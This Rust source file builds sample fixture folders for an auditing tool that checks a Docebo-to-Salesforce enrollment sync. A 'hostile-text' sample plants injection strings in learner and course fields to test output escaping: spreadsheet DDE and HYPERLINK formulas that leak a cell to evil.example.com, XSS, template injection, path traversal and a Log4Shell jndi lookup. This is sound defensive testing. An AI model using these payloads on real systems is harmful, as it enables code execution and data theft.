//! The ten sample folders: each a small organization with one thing to tell.
//!
//! Users run the tool on them to see what a finding looks like, and the tests use them as fixtures.
//! What stands in `samples/` is what [`write_all`] writes; a test compares the two.

use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;

use fastrand::Rng;

use crate::oracle;
use crate::world::dialect::{Dates, Dialect, Encoding, Workbooks};
use crate::world::{
    At, Customised, DAY, Damage, EXPORTED_AT, HOUR, MINUTE, Object, Organization, Plan, Report, World, at, near,
};

/// The moment at which the sync of `outbound-stalled` froze.
pub(crate) const FROZEN_AT: &str = "2025-10-20T06:48:00Z";
/// The stretch that is missing in `gap-and-resume`.
pub(crate) const GAP: (&str, &str) = ("2026-04-07T02:00:00Z", "2026-05-28T09:30:00Z");

/// A world and the way it is written.
pub(crate) struct Sample {
    pub(crate) world: World,
    pub(crate) dialect: Dialect,
}

/// Every sample, in alphabetical order.
pub(crate) fn names() -> [&'static str; 11] {
    [
        "gap-and-resume",
        "hostile-text",
        "in-sync",
        "incomplete-extract",
        "keys-near-miss",
        "linked-through-user",
        "links-crossed",
        "no-enrollments-yet",
        "other-organization",
        "outbound-stalled",
        "outside-list-view",
    ]
}

/// The sample of this name.
pub(crate) fn sample(name: &str) -> Sample {
    match name {
        "gap-and-resume" => gap_and_resume(),
        "hostile-text" => hostile_text(),
        "in-sync" => in_sync(),
        "incomplete-extract" => incomplete_extract(),
        "keys-near-miss" => keys_near_miss(),
        "linked-through-user" => linked_through_user(),
        "links-crossed" => links_crossed(),
        "no-enrollments-yet" => no_enrollments_yet(),
        "other-organization" => other_organization(),
        "outbound-stalled" => outbound_stalled(),
        "outside-list-view" => outside_list_view(),
        other => unreachable!("no sample is called {other}"),
    }
}

/// The organization of a sample; no two have an id, an address or the instance part of record ids in common, so that
/// runs of several samples in one folder do not follow one another.
fn organization(sample: &str) -> Organization {
    let (name, instance_part, number) = match sample {
        "gap-and-resume" => ("wendelbach-academy", "Hr0", "0qTeB"),
        "hostile-text" => ("zetanull-learning", "8Z0", "1aQwE"),
        "in-sync" => ("lindenquay-academy", "Dn0", "2LkJh"),
        "incomplete-extract" => ("marlowick-training", "4W0", "0MnBv"),
        "keys-near-miss" => ("tarnwell-glass", "aX0", "7CxZa"),
        "linked-through-user" => ("brightmere-partners", "Qk0", "3PoIu"),
        "links-crossed" => ("kestrelford-health", "2t0", "5YtRe"),
        "no-enrollments-yet" => ("pinehollow-energy", "bm0", "6GhJk"),
        "other-organization" => ("quillmarsh-logistics", "Vd0", "9NmKp"),
        "outbound-stalled" => ("northquill-foods", "7R0", "4FdSa"),
        "outside-list-view" => ("sundrey-hotels", "Lw0", "8VbNm"),
        other => unreachable!("no sample is called {other}"),
    };
    Organization { name, instance_part, number }
}

/// Findings of each check on a sample; every silence in them is long enough to be found.
pub(crate) fn expected(name: &str) -> BTreeMap<&'static str, usize> {
    let Sample { world, dialect } = sample(name);
    let mut counts = oracle::check_counts(&world, &dialect);
    if name == "other-organization" {
        counts.insert("organization-mismatch", 1);
    }
    for (_, until, made_up_for) in &world.silences {
        if !made_up_for {
            *counts.entry(if until.is_none() { "outbound-stalled" } else { "outbound-gap" }).or_default() += 1;
        }
    }
    counts
}

/// Writes every sample into a folder of its name.
pub(crate) fn write_all(dir: &Path) {
    for name in names() {
        let Sample { world, dialect } = sample(name);
        let folder = dir.join(name);
        std::fs::create_dir_all(&folder).expect("a writable folder");
        world.write(&folder, &dialect);
    }
}

fn output(mut world: World, dialect: Dialect, story: &str) -> Sample {
    world.story = story.lines().map(str::trim).collect::<Vec<_>>().join("\n").trim().to_owned();
    Sample { world, dialect }
}

/// Some time before the export.
fn before(time: At) -> At {
    at(EXPORTED_AT) - time
}

fn in_sync() -> Sample {
    let world = World::in_sync_at(organization("in-sync"), 4, 36);
    let dialect = Dialect { zone: "Europe/Amsterdam", zone_declared: false, ..Dialect::default() };
    output(
        world,
        dialect,
        "In sync: nothing to do.

        Everything that should be in Salesforce is there. Some of it only looks as if something
        were missing: people who enrolled this night, people without any enrollment, courses that
        are not synced, enrollments that were archived or withdrawn. None of that is a fault, and
        the audit ends with exit code 0.",
    )
}

fn outbound_stalled() -> Sample {
    let mut world = World::simulate_at(
        organization("outbound-stalled"),
        Plan { seed: 20, learners: 360, from: at("2025-03-01T00:00:00Z"), to: at(EXPORTED_AT), mean: 7 },
    );
    world.stall(at(FROZEN_AT), None, false);
    let dialect = Dialect { zone: "Europe/London", zone_declared: false, ..Dialect::default() };
    output(
        world,
        dialect,
        "The outbound sync froze on 2025-10-20 at 06:48 UTC, and nobody noticed.

        The job that writes Docebo's enrollments to Salesforce was cut off in the middle of an
        outage of its host. It never failed, so it left no error, and it never ran again. Contacts
        are still read into Docebo every day, so everything looks alive. People who enrolled for the
        first time since then have no Docebo User record (docebo-user-absent); those who had one
        lack their newer enrollments (enrollment-absent), and what was open then looks open still
        (enrollment-outdated). Only Docebo can start the job again, and will ask for proof.",
    )
}

fn gap_and_resume() -> Sample {
    let mut world = World::simulate_at(
        organization("gap-and-resume"),
        Plan { seed: 32, learners: 40, from: before(420 * DAY), to: at(EXPORTED_AT), mean: 8 },
    );
    world.stall(at(GAP.0), Some(at(GAP.1)), false);
    let settled = world.settled_learners();
    world.orphan_enrollment(&settled[3]);
    let dialect = Dialect {
        delimiter: b';',
        encoding: Encoding::Utf8Bom,
        dates: Dates::DmySlashSeconds,
        zone: "Europe/Berlin",
        zone_declared: false,
        ..Dialect::default()
    };
    output(
        world,
        dialect,
        "Seven weeks are missing, and today all is well.

        The sync stood still from 2026-04-07 to 2026-05-28. Then it went on with what came next,
        and never looked back: enrollments and completions of those weeks are not in Salesforce
        unless something happened to them later. Whoever looks at the newest record sees a healthy
        sync. The report of enrollments comes with semicolons and European dates, in a time zone
        that nobody wrote down.",
    )
}

fn no_enrollments_yet() -> Sample {
    let mut world = World::in_sync_at(organization("no-enrollments-yet"), 6, 18);
    for n in 0..16_i64 {
        let learner = world.enlist(before((20 + n) * DAY));
        match n % 4 {
            // In courses that the sync leaves out: one not effective, one that Salesforce never had.
            0 => world.enroll_only_in_docebo(learner, 628, before(10 * DAY)),
            1 => world.enroll_only_in_docebo(learner, 658, before(9 * DAY)),
            // Enrolled hours ago.
            2 => world.enroll_only_in_docebo(learner, 601, before((3 + n) * HOUR)),
            _ => {}
        }
    }
    output(
        world,
        Dialect::default(),
        "No Docebo User record, and no fault.

        Half of the people here have no Docebo User record in Salesforce. Docebo writes it only when
        there is an enrollment to sync: these have none at all, or only courses that are not synced,
        or one that is hours old. They are linked well and wait for their first course.",
    )
}

fn linked_through_user() -> Sample {
    let mut world = World::in_sync_at(organization("linked-through-user"), 8, 12);
    let mut rng = Rng::with_seed(8);
    for n in 0..14_u64 {
        let joined = before((330 + n.cast_signed()) * DAY);
        if n % 4 == 3 {
            let employee = world.hire(joined);
            world.live(employee, None, 4, &mut rng);
            continue;
        }
        let learner = world.enlist(joined);
        let contact = world.learners.last().expect("just enlisted").sfdc_id.clone();
        let portal = world.open_portal(&contact);
        if n % 4 == 2 {
            // Docebo itself was given the User's id.
            world.learners.last_mut().expect("just enlisted").sfdc_id.clone_from(&portal);
        }
        world.live(learner, Some(&portal), 4, &mut rng);
    }
    world.save_by_hand();
    // The age of the files says it as well, but a checkout changes that.
    world.settings.extracted_at = Some(world.settings.exported_at + 10 * MINUTE);
    output(
        world,
        Dialect { delimiter: b'\t', ..Dialect::default() },
        "Linked through a User, so Contact__c is blank.

        A Docebo User record holds a Contact or a User, never both. Portal users and employees are
        linked through User__c; looking from the Contact one sees nothing, and would think that the
        sync has failed. The snapshot was saved by hand, file by file, without a manifest: nobody
        counted the rows, and the report says so.",
    )
}

fn outside_list_view() -> Sample {
    let mut world = World::in_sync_at(organization("outside-list-view"), 10, 30);
    let outside: Vec<String> = world.contacts.iter().skip(2).step_by(3).map(|contact| contact.id.clone()).collect();
    for contact in &outside {
        world.leave_list_view(contact);
    }
    for key in ["robin.former@example.org", "sasha.prospect@example.com", "kim.supplier@example.com"] {
        let contact = world.add_contact(key, "Robin", "Elsewhere");
        world.leave_list_view(&contact);
    }
    output(
        world,
        Dialect { workbooks: Workbooks::Users, ..Dialect::default() },
        "Outside the list view, and synced all the same.

        The list view limits what Docebo reads from Salesforce, not what it writes back. A third of
        the contacts here are outside of it, among them three who are no learners at all. Enrollments
        of the others still arrive, because their ids are in place. The users come as a workbook.",
    )
}

fn other_organization() -> Sample {
    let mut world = World::in_sync_at(organization("other-organization"), 17, 30);
    world.take_ids_of_another_instance();
    output(
        world,
        Dialect::default(),
        "The snapshot was taken of another organization than the one that Docebo is connected to.

        Docebo is connected to production; the snapshot comes from a sandbox that was refreshed
        since. No Salesforce id that Docebo holds exists in it, and every one of them was given by
        another instance. Nobody is charged with deleted contacts or missing records: the inputs
        are questioned, and the run is not evaluated.",
    )
}

fn links_crossed() -> Sample {
    let mut world = World::in_sync_at(organization("links-crossed"), 12, 60);
    let mut settled = world.settled_learners().into_iter();
    let mut next = || settled.next().expect("enough settled learners");
    world.swap_sfdc_ids(&next(), &next());
    world.cross_sfdc_id(&next());
    world.misattach(&next());
    world.stray(&next());
    world.share_sfdc_id();
    world.shared_docebo_user(&next());
    world.shared_docebo_user_through_portal(&next());
    world.foreign_sfdc_id(&next());
    world.shorten_sfdc_id(&next());
    world.shorten_sfdc_id(&next());
    world.change_case_of_sfdc_id(&next());
    world.dangle_sfdc_id(&next());
    world.delete_contact(&next());
    world.lose_link(&next());
    world.repeat_enrollment_row(&next());
    world.break_enrolment_key(&next());
    world.edited_by_other(&next());
    world.edited_by_other(&next());
    world.deactivate_integration_user();
    output(
        world,
        Dialect { zone: "Asia/Kolkata", zone_declared: false, ..Dialect::default() },
        "Links that point to the wrong place, or to none.

        Somebody repaired links in a spreadsheet. Two people carry each other's contact, ids lost
        three characters or their capitals, one is a lead's, others belong to contacts that were
        merged away. Some records of the integration were edited by hand on the way, and the
        colleague under whose name the integration ran has left: her user is switched off.",
    )
}

fn keys_near_miss() -> Sample {
    let mut world = World::in_sync_at(organization("keys-near-miss"), 14, 48);
    let mut settled = world.settled_learners().into_iter();
    let mut next = || settled.next().expect("enough settled learners");
    world.near_miss_username_in_view(&next(), near::case);
    world.near_miss_username_in_view(&next(), near::space);
    world.near_miss_username_in_view(&next(), near::width);
    world.drift_username_in_view(&next());
    world.drift_username_in_view(&next());
    world.blank_sfdc_id(&next());
    world.blank_sfdc_id(&next());
    world.ambiguous(&next());
    world.shared_contact_key(&next());
    world.unlink(&next());
    world.contact_without_learner("robin.newcomer@example.org");
    world.blank_contact_key();
    output(
        world,
        Dialect::default(),
        "Almost the same key is not the same key.

        Docebo finds a learner by its username, exactly. A capital, a space left over from a paste
        or full-width letters are enough to miss, and the next contacts sync then creates a second
        account. Here are such pairs, contacts that share a key or have none, contacts whose address
        changed, and learners whose id was simply never written.",
    )
}

fn incomplete_extract() -> Sample {
    let mut world = World::in_sync_at(organization("incomplete-extract"), 16, 40);
    let left_out: BTreeSet<u64> = world.settled_learners().iter().step_by(9).map(|who| world.learner(who).id).collect();
    world.leave_out_of_export(&left_out);
    world.truncate(Object::CourseEnrollment, 30);
    output(
        world,
        Dialect::default(),
        "Half the truth is not a finding.

        Salesforce counted thirty course enrollments more than the snapshot holds: the reading broke
        off. So nothing is said about which enrollments are absent, and the checks that would need
        to know are not evaluated, which is not the same as clean. On the other side some people are
        missing from Docebo's reports, probably for lack of rights to see their branch.",
    )
}

/// What people, imports and attackers put into text fields.
const HOSTILE: [&str; 24] = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1-1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "=HYPERLINK(\"https://evil.example.com/?\"&A1,\"open\")",
    "</script><script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}",
    "javascript:alert(1)",
    "\u{1b}[31mred\u{1b}[0m\u{1b}]0;title\u{7}",
    "null\0byte",
    "\u{202e}gpj.exe",
    "\u{2066}isolated\u{2069}\u{200b}zero",
    "../../etc/passwd",
    "..\\..\\windows\\system32\\config",
    "CON",
    "two\nlines, \"quoted\", and a comma; a tab\tand a carriage\r\nreturn",
    "NA",
    "null",
    "👩🏽‍🚀🏳️‍🌈 e\u{301}",
    "مرحبا بالعالم שלום",
    " padded\u{a0}",
    "%s%n%x{0}${jndi:ldap://evil.example.com/a}",
];

fn hostile_text() -> Sample {
    let mut world = World::in_sync_at(organization("hostile-text"), 18, 24);
    let mut rng = Rng::with_seed(18);
    for (n, text) in HOSTILE.iter().enumerate() {
        hostile_course(&mut world, n, text);
        hostile_learner(&mut world, text, text, &mut rng);
    }
    let long = "long ".repeat(8_000);
    let course = world.add_course(&"9".repeat(255), &long);
    let learner = hostile_learner(&mut world, &format!("{}@example.com", "l".repeat(39_988)), &long, &mut rng);
    world.enroll(learner, course, before(60 * DAY));
    world.users[1].username = HOSTILE[6].to_owned();

    let settled: Vec<String> =
        world.settled_learners().into_iter().filter(|who| who.ends_with("@example.com")).collect();
    for (who, word) in settled.iter().zip([HOSTILE[0], HOSTILE[6], HOSTILE[10], HOSTILE[17], "NA"]) {
        world.unknown_status_word(who, word);
    }
    for (who, id) in settled[5..].iter().zip([HOSTILE[0], HOSTILE[6], HOSTILE[14]]) {
        world.write_into_sfdc_id(who, id);
    }
    world.write_into_enrolment_id(&settled[8], HOSTILE[1]);
    world.reject_row(Report::Enrollments, Damage::LearnerId(HOSTILE[0].to_owned()));
    world.reject_row(Report::Enrollments, Damage::CourseId(HOSTILE[6].to_owned()));
    world.reject_row(Report::Enrollments, Damage::Date(HOSTILE[10].to_owned()));
    world.reject_row(Report::Users, Damage::LearnerId(HOSTILE[17].to_owned()));
    // Hostile names are what a customised organisation can have, too.
    let built = [("apex-trigger", HOSTILE[0]), ("flow", HOSTILE[6]), ("validation-rule", "Only_in_office_hours")];
    world.customised = Some(Customised {
        parts: built
            .map(|(kind, name)| {
                ["docebo_v3__CourseEnrollment__c", kind, name, "active", HOSTILE[10]].map(str::to_owned)
            })
            .to_vec(),
        unseen: vec!["workflow-rule on every object (HTTP 403 INSUFFICIENT_ACCESS)".to_owned()],
    });
    output(
        world,
        Dialect::default(),
        "Text that wants to be something else.

        Names, usernames, course titles, codes, keys and status words here are formulas, markup,
        terminal sequences, paths, forty thousand characters, or nothing that anybody can read. They
        are data. In no output may they become anything else: open the workbook and the page.",
    )
}

fn hostile_course(world: &mut World, n: usize, text: &str) {
    let course = &mut world.courses[n];
    let id = course.id;
    course.title = text.to_owned();
    course.code = text.to_owned();
    course.category = text.to_owned();
    for row in world.course_rows.iter_mut().filter(|row| row.course == id) {
        row.title = text.to_owned();
        row.code = text.to_owned();
    }
}

/// A learner of this username, and this text in every other field, linked and synced.
fn hostile_learner(world: &mut World, username: &str, text: &str, rng: &mut Rng) -> u64 {
    let id = world.enlist(before(320 * DAY));
    let learner = world.learners.last_mut().expect("just enlisted");
    username.clone_into(&mut learner.username);
    for field in
        [&mut learner.email, &mut learner.given, &mut learner.family, &mut learner.branch, &mut learner.country]
    {
        text.clone_into(field);
    }
    let contact = world.contacts.last_mut().expect("just enlisted");
    username.clone_into(&mut contact.key);
    text.clone_into(&mut contact.given);
    text.clone_into(&mut contact.family);
    // A long name is told again in every enrollment; once is enough.
    if text.len() < 1_000 {
        world.live(id, None, 2, rng);
        if let Some(row) = world.docebo_users.iter_mut().find(|row| row.learner == id) {
            row.who = text.chars().take(18).collect();
        }
    }
    id
}
